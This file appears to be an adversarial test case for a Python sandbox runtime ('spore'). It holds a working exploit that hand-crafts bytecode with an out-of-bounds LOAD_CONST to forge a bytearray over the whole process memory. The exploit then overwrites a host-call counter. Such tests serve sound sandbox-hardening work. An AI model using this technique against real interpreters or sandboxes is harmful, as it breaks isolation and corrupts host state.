# Bytecode that no compiler makes gives the component its whole linear memory, to read and to write.
# It sets the number of the last host call back, so that two calls have the same.
# class: corruption
# expect: any
# limits: CallTime=1s

import opcode, struct, types


def memory(size, start=0):
    """Linear memory from start as a bytearray, made of bytes that the interpreter takes for one."""
    fake = struct.pack("<8I", 1000, id(bytearray), size, size, start, start, 0, 0)
    slot = struct.pack("<I", id(fake) + 16)
    keep.extend((fake, slot))
    consts = (None,)
    arg = ((id(slot) + 16 - id(consts) - 12) // 4) & 0xFFFFFFFF
    code = bytes((RESUME, 0, EXTENDED, arg >> 24, EXTENDED, arg >> 16 & 255, EXTENDED, arg >> 8 & 255, LOAD_CONST, arg & 255, RETURN, 0))
    return types.FunctionType((lambda: None).__code__.replace(co_code=code, co_consts=consts), {})()


EXTENDED, LOAD_CONST, RETURN, RESUME = (opcode.opmap[n] for n in ("EXTENDED_ARG", "LOAD_CONST", "RETURN_VALUE", "RESUME"))
keep = []


def top():
    last = bytes(2 << 20)  # too large for what was freed before, so at the end of the heap
    return id(last) + len(last)


async def attack():
    import asyncio, spore
    first = asyncio.ensure_future(spore.call("spore.sleep", {"ms": 5}))
    await asyncio.sleep(0)
    mem = memory(top())
    at = -1
    while True:
        at = mem.index(struct.pack("<I", 65536), at + 1)
        abi, area = struct.unpack("<II", mem[at - 8:at])
        if abi == 1 and at < area < at + 4096: break
    mem[at + 20:at + 24] = bytes(4)
    return [await spore.call("spore.sleep", {"ms": 1}), await first]


def render(p):
    return attack() if p["attack"] else f"fine {p['n']}"
